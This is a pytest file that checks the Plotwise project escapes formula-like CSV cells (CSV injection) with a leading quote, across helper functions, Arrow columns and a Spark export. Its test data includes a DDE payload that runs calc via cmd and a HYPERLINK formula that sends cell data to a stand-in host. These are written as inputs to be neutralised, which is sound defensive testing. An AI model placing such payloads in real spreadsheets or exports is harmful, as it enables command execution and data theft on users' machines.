"""Formula-looking cells (CSV injection) are escaped in every CSV Plotwise writes.

OWASP: a text cell starting with =, +, -, @, tab, CR or LF gets a leading single quote.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from plotwise.spark.results import write_files
from plotwise.uploads import escape_formula, escape_formula_array, looks_like_formula

PAYLOAD = "=cmd|' /C calc'!A0"

FORMULAS = [
    (PAYLOAD, "'" + PAYLOAD),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"),
    ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)'),
]
PLAIN = ["", "plain", "a=b", "1+1", "'already quoted", " =1", "ß", "12,5", "x-y"]


@pytest.mark.parametrize(("cell", "escaped"), FORMULAS)
def test_formula_cells_get_a_leading_quote(cell: str, escaped: str):
    assert looks_like_formula(cell)
    assert escape_formula(cell) == escaped


@pytest.mark.parametrize("cell", PLAIN)
def test_other_cells_stay_as_they_are(cell: str):
    assert not looks_like_formula(cell)
    assert escape_formula(cell) == cell


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()])
def test_arrow_columns_are_escaped_cell_by_cell(kind: pa.DataType):
    cells = [cell for cell, _ in FORMULAS] + PLAIN + [None]
    expected = [escaped for _, escaped in FORMULAS] + PLAIN + [None]
    column = pa.array(cells, kind)
    escaped = escape_formula_array(column)
    assert escaped.type == kind and escaped.to_pylist() == expected
    chunked = escape_formula_array(pa.chunked_array([column[:3], column[3:]]))
    assert chunked.to_pylist() == expected


def test_the_spark_job_csv_escapes_formula_cells(tmp_path: Path):
    table = pa.table(
        {
            "payload": [PAYLOAD, "@SUM(1)", "fine", None],
            "amount": [-5, 2, 3, 4],
            "tags": pa.array([["=x"], [], None, ["a"]]),
            "label": pa.array(["-dash", "+plus", "b", "c"]).dictionary_encode(),
        }
    )
    files = write_files(table, tmp_path, "job_1")
    with files["csv"].open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["payload", "amount", "tags", "label"]
    assert [row[0] for row in rows[1:]] == ["'" + PAYLOAD, "'@SUM(1)", "fine", ""]
    # Numbers stay numbers; lists are JSON text (which cannot start like a formula).
    assert [row[1] for row in rows[1:]] == ["-5", "2", "3", "4"]
    assert [row[2] for row in rows[1:]] == ['["=x"]', "[]", "", '["a"]']
    assert [row[3] for row in rows[1:]] == ["'-dash", "'+plus", "b", "c"]
    # The Parquet file keeps the values exactly.
    assert pq.read_table(files["parquet"]).column("payload").to_pylist()[0] == PAYLOAD
